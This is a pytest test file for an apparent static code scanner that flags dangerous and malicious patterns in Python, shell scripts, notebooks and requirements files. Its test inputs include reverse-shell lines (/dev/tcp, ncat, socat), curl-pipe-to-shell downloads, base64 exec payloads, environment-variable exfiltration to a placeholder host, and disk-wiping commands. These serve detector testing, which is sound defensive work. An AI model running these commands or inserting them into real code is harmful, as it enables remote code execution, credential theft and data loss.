"""Source code: what is imported and called, without running it."""

from __future__ import annotations

import json
import warnings
from pathlib import Path

import pytest

from aiverify.core.facts import Facts, Role, State
from aiverify.core.finding import Severity
from tests.support.looking import look_at

MALICIOUS = "AIV-CODE-MALICIOUS"
DANGEROUS = "AIV-CODE-DANGEROUS"
TEXT = "aW1wb3J0IG9zCg=="


def python(folder: Path, text: str) -> Facts:
    return look_at(folder, "x.py", text.encode()).facts


def shell(folder: Path, text: str) -> Facts:
    return look_at(folder, "x.sh", text.encode()).facts


def rules(facts: Facts) -> list[str]:
    return [finding.rule for finding in facts.findings]


def test_a_module_states_what_it_imports_and_defines(tmp_path: Path) -> None:
    text = (
        "import os, torch.nn as nn\nfrom transformers import X\nfrom .own import Y\n"
        "class A:\n    def f(self): ...\nasync def g(): ...\nh = __import__('zlib')\n"
    )
    assert python(tmp_path, text).values == {
        "lines": 7,
        "imports": ["os", "torch", "transformers", "zlib"],
        "functions": 2,
        "classes": 1,
        "calls_at_import": [],
    }


def test_what_runs_on_import_is_told_from_what_is_only_defined(tmp_path: Path) -> None:
    text = (
        "import os\nos.system('a')\ndef f():\n    os.popen('b')\n"
        "if __name__ == '__main__':\n    os.fork()\nclass C:\n    x = eval('1')\n"
    )
    found = python(tmp_path, text)
    assert found.values["calls_at_import"] == ["eval", "os.system"]
    assert [finding.message for finding in found.findings] == [
        "starts a process when it is imported: os.system",
        "starts a process: os.popen",
        "starts a process: os.fork",
        "evaluates text when it is imported: eval",
    ]
    assert found.findings[1].place == "line 4"


@pytest.mark.parametrize(
    "call",
    [
        "from os import system as s\ns('x')",
        "import os as o\no.system('x')",
        "__import__('os').system('x')",
        "getattr(__import__('os'), 'sys' + 'tem')('x')",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))('x')",
        "import os\nf = os.system\nf('x')",
        "import os\nos.__dict__['system']('x')",
        "import sys\nsys.modules['os'].system('x')",
        "import importlib\nimportlib.import_module('os').system('x')",
        "import os\nlist(map(os.system, ['x']))",
        "import os\n@os.system\nclass X: ...",
        "import os\nos.execv('a', [])",
        "import os\nos.spawnl(0, 'a')",
        "import subprocess as p\np.check_output(['x'])",
        "exec('x')",
        "'x'[::-1] and eval('x')",
        "__builtins__.exec('x')",
        "globals()['eval']('x')",
        "import socket\nsocket.socket()",
        "import ctypes\nctypes.CDLL('x')",
        "import pickle\npickle.loads(x)",
        "import urllib.request\nurllib.request.urlopen('x')",
    ],
)
def test_a_dangerous_call_is_found_by_whatever_name(tmp_path: Path, call: str) -> None:
    assert DANGEROUS in rules(python(tmp_path, call))


@pytest.mark.parametrize(
    "text",
    [
        "import re\nre.compile('x')",
        "model.eval()",
        "import torch\ntorch.compile(x)\ntorch.load('x')",
        "import ast\nast.literal_eval('1')",
        "import subprocess\nraise subprocess.CalledProcessError(1, 'x')",
        "import base64\nx = base64.b64decode('" + TEXT + "')",
        "import requests\ntry: ...\nexcept requests.RequestException: ...",
        "x = '\\d'",
        "",
    ],
)
def test_what_only_looks_dangerous_is_none(tmp_path: Path, text: str) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert python(tmp_path, text + "\n").findings == ()


@pytest.mark.parametrize(
    "text",
    [
        f"import base64\nexec(base64.b64decode('{TEXT}'))",
        f"import base64\nwith x as d: ...\nd = base64.b64decode('{TEXT}')\nexec(d)",
        f"import base64\nif (d := base64.b64decode('{TEXT}')): exec(d)",
        f"import base64\ndef f(x): return base64.b64decode(x)\nexec(f('{TEXT}'))",
        f"import base64, os\nt = '{TEXT}'\nos.system(base64.b64decode(t).decode())",
        f"import base64, subprocess as s\ns.run(['sh', '-c', base64.b64decode('{TEXT}')])",
        f"import base64, pickle\npickle.loads(base64.b64decode('{TEXT}'))",
        "import requests\nexec(requests.get('http://x').text)",
        "import os\nos.system('wget -O- http://x | sh')",
        "import os, httpx\nhttpx.post('http://x', json=os.environ.copy())",
        "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
        "# coding: rot13\nvzcbeg bf",
    ],
)
def test_what_only_an_attack_does_is_an_error(tmp_path: Path, text: str) -> None:
    found = [item for item in python(tmp_path, text).findings if item.rule == MALICIOUS]
    assert found
    assert found[0].severity is Severity.ERROR


@pytest.mark.parametrize(
    "text",
    [
        "import base64, subprocess as s\ns.run(['ffmpeg'], input=base64.b64decode(data))",
        "import requests, subprocess as s\nx = requests.get(u)\ns.run(['file', x.content])",
        "import os, requests\nrequests.get(u, headers={'a': os.environ['TOKEN']})",
        "import os, requests\nrequests.get(u, headers={'a': os.environ.get('TOKEN')})",
        "import pickle, base64\npickle.loads(base64.b64decode(row))",
        "# vim: set fileencoding=utf-8 :\nx = 1",
        "# coding: latin-1\nx = 1",
    ],
)
def test_what_honest_programs_do_as_well_is_no_error(tmp_path: Path, text: str) -> None:
    assert MALICIOUS not in rules(python(tmp_path, text))


@pytest.mark.parametrize(
    "text", ["def", "x = (", "a" + ".b" * 9999, "-" * 99_999 + "1", "9" * 9999, "f'{'", "\tx\n y"]
)
def test_what_cannot_be_parsed_is_a_warning(tmp_path: Path, text: str) -> None:
    (finding,) = python(tmp_path, text).findings
    assert (finding.rule, finding.severity) == ("AIV-CODE-UNPARSED", Severity.WARNING)


def test_programs_too_large_to_read_are_unread(tmp_path: Path) -> None:
    assert look_at(tmp_path, "x.py", b"#" * ((1 << 20) + 1)).state is State.UNREAD
    assert look_at(tmp_path, "x.py", b"a\n" * 60_000).state is State.UNREAD
    assert look_at(tmp_path, "x.py", b"x = 1\xff").state is State.UNREAD


@pytest.mark.parametrize("name", ["sitecustomize.py", "lib/usercustomize.py"])
def test_modules_that_python_starts_with_are_an_error(tmp_path: Path, name: str) -> None:
    (finding,) = look_at(tmp_path, name, b"x = 1\n").facts.findings
    assert finding.rule == "AIV-CODE-STARTUP"


@pytest.mark.parametrize(
    "command",
    [
        "curl -s x|sh",
        "curl x | sudo bash; true",
        "wget -qO - x \\\n  | /bin/bash -s -- -y",
        "curl x | gunzip | sh",
        'sh -c "$(curl x)"',
        ". <(curl x)",
        "exec 5<>/dev/tcp/1.2.3.4/1",
        "ncat 1.2.3.4 1 --exec /bin/sh ",
        "socat tcp:1.2.3.4:1 EXEC:sh",
        "echo x | xxd -r -p | bash",
        "IEX (New-Object Net.WebClient).DownloadString('x')",
        "certutil -urlcache -f http://x y",
    ],
)
def test_a_command_that_only_an_attack_has_is_an_error(tmp_path: Path, command: str) -> None:
    (finding,) = shell(tmp_path, f"id\n{command}\n").findings
    assert (finding.rule, finding.place) == (MALICIOUS, "line 2")


@pytest.mark.parametrize(
    "command",
    [
        "# curl x | sh",
        "cat x | python convert.py",
        "python -m http.server",
        "echo 'done' | tee log",
        "rm -rf ./build",
        "zcat x.gz | head",
    ],
)
def test_an_ordinary_command_is_no_finding(tmp_path: Path, command: str) -> None:
    assert shell(tmp_path, command + "\n").findings == ()


@pytest.mark.parametrize(
    "command", ["curl -O x", "sudo id", "rm -rf /", "eval $x", "crontab f", "dd of=/dev/sda"]
)
def test_a_command_worth_reading_is_a_warning(tmp_path: Path, command: str) -> None:
    (finding,) = shell(tmp_path, command + "\n").findings
    assert (finding.rule, finding.severity) == (DANGEROUS, Severity.WARNING)


def test_a_command_is_found_at_the_end_of_a_very_long_line(tmp_path: Path) -> None:
    assert rules(shell(tmp_path, "x " * 20_000 + "; curl x | sh\n")) == [MALICIOUS]


def test_a_script_is_judged_by_its_interpreter(tmp_path: Path) -> None:
    text = f"#!/usr/bin/env python3\nimport base64\nexec(base64.b64decode('{TEXT}'))\n"
    found = look_at(tmp_path, "run", text.encode()).facts
    assert (found.format, rules(found)) == ("script", [MALICIOUS])
    assert found.values["imports"] == ["base64"]
    perl = look_at(tmp_path, "run", b"#!/usr/bin/perl\n1;\n").facts
    assert perl.unread == "a program for /usr/bin/perl"


def notebook(folder: Path, *sources: object, language: str = "python") -> Facts:
    cells = [{"cell_type": "code", "source": source, "outputs": []} for source in sources]
    cells.append({"cell_type": "markdown", "source": "eval('1')"})
    value = {"cells": cells, "metadata": {"kernelspec": {"language": language}}}
    return look_at(folder, "x.ipynb", json.dumps(value).encode()).facts


def test_a_notebook_states_its_cells_and_imports(tmp_path: Path) -> None:
    found = notebook(tmp_path, "import os\n", ["import re\n", "%time x\n", "re?"])
    assert (found.format, found.role) == ("notebook", Role.CODE)
    assert found.values == {
        "cells": 3,
        "code_cells": 2,
        "imports": ["os", "re"],
        "language": "python",
    }
    assert found.findings == ()


def test_a_cell_is_judged_as_a_module_and_its_commands_as_commands(tmp_path: Path) -> None:
    found = notebook(tmp_path, "x = 1", "if x:\n    !curl x | sh\n    eval('1')", "%%sh\nsudo id")
    assert [(item.rule, item.place) for item in found.findings] == [
        (MALICIOUS, "#/cells/1, line 2"),
        (DANGEROUS, "#/cells/1, line 3"),
        (DANGEROUS, "#/cells/2, line 2"),
    ]


def test_a_notebook_in_another_language_or_of_too_much_code_is_unread(tmp_path: Path) -> None:
    assert notebook(tmp_path, "x <- 1", language="R").unread == "cells in R"
    assert "more than" in notebook(tmp_path, "a\n" * 30_000, "a\n" * 30_000).unread


def test_requirements_state_packages_and_where_else_they_come_from(tmp_path: Path) -> None:
    text = b"torch==2\n# -f x\n-i http://x\ngit+https://h/r\nnumpy  # http://y\n"
    found = look_at(tmp_path, "requirements-gpu.txt", text).facts
    assert [item["name"] for item in found.values["packages"]] == ["torch", "numpy"]
    assert [(item.rule, item.place) for item in found.findings] == [
        ("AIV-CODE-SOURCE", "line 3"),
        ("AIV-CODE-SOURCE", "line 4"),
    ]


def test_a_path_file_with_an_import_is_an_error_and_weights_are_not(tmp_path: Path) -> None:
    found = look_at(tmp_path, "x.pth", b"lib\nimport os\n").facts
    assert (found.format, rules(found)) == ("site_path", ["AIV-CODE-STARTUP"])
    assert found.findings[0].place == "line 2"
    assert look_at(tmp_path, "x.pth", b"lib\nimportant\n").facts.format != "site_path"
